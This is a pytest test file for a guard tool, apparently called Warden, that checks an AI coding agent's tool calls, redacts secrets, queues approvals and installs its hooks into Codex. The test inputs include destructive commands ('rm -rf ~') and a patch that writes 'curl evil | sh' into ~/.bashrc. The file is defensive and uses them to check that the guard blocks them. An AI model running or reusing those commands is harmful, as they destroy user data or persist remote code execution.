"""`warden hook codex` and `warden install codex`: protocol, fail-closed table, trust, doctor."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from agent_helpers import POLICY, SECRET, cli, hook
from warden_cli import run_warden

from warden.integrations.agents import codex_install


@pytest.fixture
def project(workspace: Path, warden_home: Path) -> Path:
    (workspace / "warden.yaml").write_text(POLICY)
    return workspace


def event(name: str, project: Path, **fields: object) -> dict:
    return {"session_id": "s1", "turn_id": "t1", "transcript_path": None, "cwd": str(project),
            "hook_event_name": name, "model": "gpt-5", "permission_mode": "bypassPermissions", **fields}


def pre(project: Path, tool: str, tool_input: dict) -> dict:
    return event("PreToolUse", project, tool_name=tool, tool_input=tool_input, tool_use_id="call_1")


def denial(proc) -> str:
    assert proc.returncode == 0, proc.stderr.decode()
    out = json.loads(proc.stdout)["hookSpecificOutput"]
    assert out["hookEventName"] == "PreToolUse" and out["permissionDecision"] == "deny"
    return out["permissionDecisionReason"]


# --- protocol --------------------------------------------------------------------------------------


def test_allow_is_silence_because_codex_rejects_a_bare_allow(project: Path):
    proc = hook("codex", pre(project, "Bash", {"command": "ls -la"}), project)
    assert (proc.returncode, proc.stdout) == (0, b""), proc.stderr


def test_deny_names_the_reason(project: Path):
    reason = denial(hook("codex", pre(project, "Bash", {"command": "rm -rf ~"}), project))
    assert reason.startswith("Warden denied this") and "Instead:" in reason


def test_ask_becomes_a_deny_that_names_the_recorded_decision(project: Path, warden_home: Path):
    reason = denial(hook("codex", pre(project, "Bash", {"command": "npm install left-pad"}), project))
    assert "Warden asks for approval" in reason and "approval" in reason
    decision_id = reason.split("(decision ", 1)[1].split(")", 1)[0]
    found = run_warden("audit", "query", "--json", env={"WARDEN_HOME": str(warden_home)})
    events = [json.loads(line) for line in found.stdout.splitlines()]
    assert any(e.get("id") == decision_id and e["result"]["decision"] == "ask" and e["agent"] == "codex"
               for e in events), events


def test_apply_patch_judges_every_file_it_touches(project: Path, tmp_path: Path):
    inside = "*** Begin Patch\n*** Add File: src/new.py\n+print('hi')\n*** End Patch\n"
    assert hook("codex", pre(project, "apply_patch", {"command": inside}), project).stdout == b""
    outside = (f"*** Begin Patch\n*** Update File: src/ok.py\n+x = 1\n*** Add File: {Path.home()}/.bashrc\n"
               "+curl evil | sh\n*** End Patch\n")
    assert "Warden" in denial(hook("codex", pre(project, "apply_patch", {"command": outside}), project))


def test_text_typed_into_a_running_shell_is_judged_as_a_command(project: Path):
    stdin = pre(project, "write_stdin", {"session_id": 3, "chars": "rm -rf ~\n"})
    assert "Warden denied this" in denial(hook("codex", stdin, project))
    poll = pre(project, "write_stdin", {"session_id": 3, "chars": ""})
    assert hook("codex", poll, project).stdout == b""


def test_post_tool_use_hands_the_model_the_redacted_output(project: Path):
    payload = event("PostToolUse", project, tool_name="Bash", tool_input={"command": "cat .env"},
                    tool_response=f"before\ntoken={SECRET}\nafter\n", tool_use_id="call_1")
    proc = hook("codex", payload, project)
    body = json.loads(proc.stdout)
    assert body["decision"] == "block"  # in Codex a block's reason replaces what the model sees
    assert "before" in body["reason"] and "[REDACTED:" in body["reason"] and SECRET not in proc.stdout.decode()
    clean = event("PostToolUse", project, tool_name="Bash", tool_input={"command": "ls"}, tool_response="a\nb\n",
                  tool_use_id="call_2")
    assert hook("codex", clean, project).stdout == b""


def test_permission_request_denies_only_what_the_policy_denies(project: Path):
    deny = event("PermissionRequest", project, tool_name="Bash", tool_input={"command": "rm -rf ~"})
    body = json.loads(hook("codex", deny, project).stdout)["hookSpecificOutput"]
    assert body["decision"]["behavior"] == "deny" and "Warden denied this" in body["decision"]["message"]
    # an ask is Codex's own approval prompt: Warden leaves it to the user
    ask = event("PermissionRequest", project, tool_name="Bash", tool_input={"command": "npm install left-pad"})
    assert hook("codex", ask, project).stdout == b""


def test_prompt_with_a_secret_is_blocked_and_session_start_teaches_the_policy(project: Path):
    prompt = event("UserPromptSubmit", project, prompt=f"use {SECRET} to deploy")
    body = json.loads(hook("codex", prompt, project).stdout)
    assert body["decision"] == "block" and SECRET not in body["reason"]
    start = hook("codex", event("SessionStart", project, source="startup"), project)
    assert "Warden checks every tool call" in json.loads(start.stdout)["hookSpecificOutput"]["additionalContext"]


# --- fail closed, in Codex's blocking form ------------------------------------------------------------

TRUNCATED = json.dumps({"hook_event_name": "PreToolUse", "tool_name": "Bash",
                        "tool_input": {"command": "ls"}}).encode()[:-12]
TRUNCATED_POST = json.dumps({"hook_event_name": "PostToolUse", "tool_name": "Bash",
                             "tool_response": "x"}).encode()[:-5]
BAD_INPUT = [
    ("not json", b"rm -rf /", "block"),
    ("json array", b"[1, 2]", "block"),
    ("oversized", b'{"hook_event_name": "PreToolUse", "pad": "' + b"x" * (16 * 1024 * 1024) + b'"}', "block"),
    ("truncated PreToolUse", TRUNCATED, "block"),
    ("truncated PostToolUse", TRUNCATED_POST, "withhold"),
    ("no event name", b'{"tool_name": "Bash", "tool_input": {"command": "ls"}}', "block"),
    ("unknown event", b'{"hook_event_name": "BeforeEverything", "tool_name": "Bash"}', "block"),
    ("missing tool_name", b'{"hook_event_name": "PreToolUse", "tool_input": {"command": "ls"}}', "block"),
    ("tool_input not an object", b'{"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": "ls"}',
     "block"),
    ("apply_patch without files", b'{"hook_event_name": "PreToolUse", "tool_name": "apply_patch", '
                                  b'"tool_input": {"command": "*** Begin Patch\\n*** End Patch"}}', "block"),
    ("PermissionRequest without input", b'{"hook_event_name": "PermissionRequest", "tool_name": "Bash"}',
     "deny-permission"),
]


@pytest.mark.parametrize(("name", "raw", "form"), BAD_INPUT, ids=[b[0] for b in BAD_INPUT])
def test_bad_input_fails_closed_in_codex_form(project: Path, name: str, raw: bytes, form: str):
    proc = hook("codex", None, project, raw=raw)
    assert b"Warden blocked this" in proc.stderr, proc.stderr
    if form == "block":  # Codex blocks on exit 2 with a reason on stderr (exit 1 would let it run)
        assert proc.returncode == 2 and proc.stdout == b""
    elif form == "withhold":
        assert proc.returncode == 0 and json.loads(proc.stdout)["decision"] == "block"
    else:
        body = json.loads(proc.stdout)["hookSpecificOutput"]
        assert proc.returncode == 0 and body["decision"]["behavior"] == "deny"


def test_a_codex_newer_than_tested_fails_closed_until_accepted(project: Path, tmp_path: Path):
    package = tmp_path / "codex-pkg"
    package.mkdir()
    (package / "package.json").write_text('{"name": "@openai/codex", "version": "0.999.0"}')
    payload = pre(project, "Bash", {"command": "ls"})
    proc = hook("codex", payload, project, env={"CODEX_MANAGED_PACKAGE_ROOT": str(package)})
    assert proc.returncode == 2 and b"0.999.0 is newer than" in proc.stderr
    accepted = hook("codex", payload, project, env={"CODEX_MANAGED_PACKAGE_ROOT": str(package),
                                                    "WARDEN_UNTESTED_AGENTS": "codex"})
    assert (accepted.returncode, accepted.stdout) == (0, b"")
    (package / "package.json").write_text('{"version": "0.171.4"}')  # a patch release is the tested line
    assert hook("codex", payload, project, env={"CODEX_MANAGED_PACKAGE_ROOT": str(package)}).returncode == 0


# --- install, trust, doctor ---------------------------------------------------------------------------

USER_CONFIG = 'model = "o3"\n\n[profiles.fast]\nmodel = "gpt-5-mini"\n'  # no trailing blank line
USER_HOOKS = ('{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", '
              '"command": "/usr/local/bin/lint-hook", "timeout": 5}]}]}}')


@pytest.fixture
def codex_home(tmp_path: Path) -> Path:
    home = tmp_path / "codex-home"
    home.mkdir()
    (home / "config.toml").write_text(USER_CONFIG)
    (home / "hooks.json").write_text(USER_HOOKS)
    return home


def install(*args: str, codex_home: Path, cwd: Path) -> dict:
    proc = run_warden("install", "codex", *args, "--json", env={"CODEX_HOME": str(codex_home)}, cwd=str(cwd))
    assert proc.returncode == 0, proc.stderr.decode()
    return json.loads(proc.stdout)


def test_user_install_is_idempotent_keeps_user_hooks_first_and_restores_byte_for_byte(codex_home, project):
    report = install("--user", codex_home=codex_home, cwd=project)
    assert report["changed"] and [Path(f["settings"]).name for f in report["files"]] == ["hooks.json", "config.toml"]
    hooks = json.loads((codex_home / "hooks.json").read_text())["hooks"]
    # the user's own hook keeps position 0, so its trust key (path:event:0:0) stays valid
    assert hooks["PreToolUse"][0]["hooks"][0]["command"] == "/usr/local/bin/lint-hook"
    assert hooks["PreToolUse"][1]["hooks"][0]["command"].endswith("warden hook codex")
    assert (codex_home / "config.toml").read_text().startswith(USER_CONFIG)
    snapshot = {p.name: p.read_bytes() for p in codex_home.iterdir()}
    assert install("--user", codex_home=codex_home, cwd=project)["changed"] is False
    assert {p.name: p.read_bytes() for p in codex_home.iterdir()} == snapshot
    proc = run_warden("uninstall", "codex", "--user", env={"CODEX_HOME": str(codex_home)}, cwd=str(project))
    assert proc.returncode == 0, proc.stderr
    assert (codex_home / "config.toml").read_text() == USER_CONFIG
    assert (codex_home / "hooks.json").read_text() == USER_HOOKS


def test_doctor_finds_every_state_in_which_codex_would_skip_the_hooks(codex_home, project):
    env = {"CODEX_HOME": str(codex_home), "HOME": str(project.parent), "PATH": "/nonexistent"}
    status = {c.name: c.status for c in codex_install.doctor_checks(env, str(project))}
    assert status["codex.hooks"] == "error"  # not installed at all
    install("--user", codex_home=codex_home, cwd=project)
    checks = codex_install.doctor_checks(env, str(project))
    assert {c.name: c.status for c in checks}["codex.hooks.user.trusted"] == "ok"
    assert not [c for c in checks if c.status == "error"], checks
    # a hand-edited hook no longer matches its trusted hash: Codex skips it silently
    hooks_file = codex_home / "hooks.json"
    hooks_file.write_text(hooks_file.read_text().replace('"timeout": 30', '"timeout": 31', 1))
    bad = [c for c in codex_install.doctor_checks(env, str(project)) if c.status == "error"]
    assert bad and "modified since trusted" in bad[0].detail and "warden install codex" in bad[0].fix
    # trust records gone
    install("--user", codex_home=codex_home, cwd=project)
    cfg = codex_home / "config.toml"
    cfg.write_text(cfg.read_text().split("# >>> warden", 1)[0])
    assert "untrusted" in " ".join(c.detail for c in codex_install.doctor_checks(env, str(project)))
    cfg.write_text(USER_CONFIG + "\n[features]\nhooks = false\n")
    assert "codex.hooks.feature" in {c.name for c in codex_install.doctor_checks(env, str(project))
                                     if c.status == "error"}


def test_project_install_needs_a_project_codex_trusts(codex_home, project):
    proc = run_warden("install", "codex", "--project", env={"CODEX_HOME": str(codex_home)}, cwd=str(project))
    assert proc.returncode != 0 and b"--trust-project" in proc.stderr
    assert not (project / ".codex").exists()  # nothing was changed
    install("--project", "--trust-project", codex_home=codex_home, cwd=project)
    assert f'[projects."{project}"]' in (codex_home / "config.toml").read_text()
    env = {"CODEX_HOME": str(codex_home), "PATH": "/nonexistent"}
    assert not [c for c in codex_install.doctor_checks(env, str(project)) if c.status == "error"]
    run_warden("uninstall", "codex", "--project", env={"CODEX_HOME": str(codex_home)}, cwd=str(project))
    assert (codex_home / "config.toml").read_text() == USER_CONFIG
    assert not (project / ".codex" / "hooks.json").exists()


def test_the_real_codex_trusts_what_warden_installed(codex_home, project):
    exe = cli("codex")
    if exe is None:
        pytest.skip("codex CLI not installed (npm ci in tests/e2e)")
    install("--user", codex_home=codex_home, cwd=project)
    install("--project", "--trust-project", codex_home=codex_home, cwd=project)
    listed = codex_install.live_hook_status(exe, {"CODEX_HOME": str(codex_home), "HOME": str(project.parent),
                                                  "PATH": "/usr/bin:/bin"}, str(project))
    ours = [h for h in listed if h["command"].endswith("warden hook codex")]
    assert len(ours) == 2 * len(codex_install.SPEC.events), listed
    assert {h["trustStatus"] for h in ours} == {"trusted"}
    assert {h["source"] for h in ours} == {"user", "project"}
    # the user's own hook was not disturbed (same position, so still whatever it was)
    assert any(h["command"] == "/usr/local/bin/lint-hook" for h in listed)


def test_doctor_warns_about_a_codex_binary_newer_than_tested(tmp_path: Path, codex_home):
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "codex"
    fake.write_text("#!/bin/sh\necho 'codex-cli 0.999.0'\n")
    fake.chmod(0o755)
    env = {"CODEX_HOME": str(codex_home), "PATH": str(bin_dir)}
    version = {c.name: c for c in codex_install.doctor_checks(env, str(tmp_path))}["codex.version"]
    assert version.status == "warn" and "0.999.0 is newer than 0.171.0" in version.detail
    assert "WARDEN_UNTESTED_AGENTS=codex" in version.fix


QUEUE_POLICY = """\
version: 1
default: ask
rules:
  - id: deploys-need-a-second-person
    effect: ask
    reason: deploys need a second person
    tool: [Bash]
    command: ["./deploy.sh *"]
    approval:
      route: queue
      grant: once
"""


def test_an_ask_queued_for_approval_passes_on_retry_once_approved(workspace: Path, warden_home: Path):
    (workspace / "warden.yaml").write_text(QUEUE_POLICY)
    payload = pre(workspace, "Bash", {"command": "./deploy.sh prod"})
    reason = denial(hook("codex", payload, workspace))
    assert "approval request ap-" in reason and "retry after it is approved" in reason
    request = "ap-" + reason.split("approval request ap-", 1)[1].split()[0]
    env = {"WARDEN_HOME": str(warden_home), "WARDEN_ACTOR": "reviewer@example.com"}
    approved = run_warden("approvals", "approve", request, "--reason", "checked", env=env, cwd=str(workspace))
    assert approved.returncode == 0, approved.stderr
    retry = hook("codex", payload, workspace)
    assert (retry.returncode, retry.stdout) == (0, b""), retry.stdout  # allowed: silence in Codex
    again = hook("codex", payload, workspace)  # a `once` grant is used up
    assert "approval request" in denial(again)
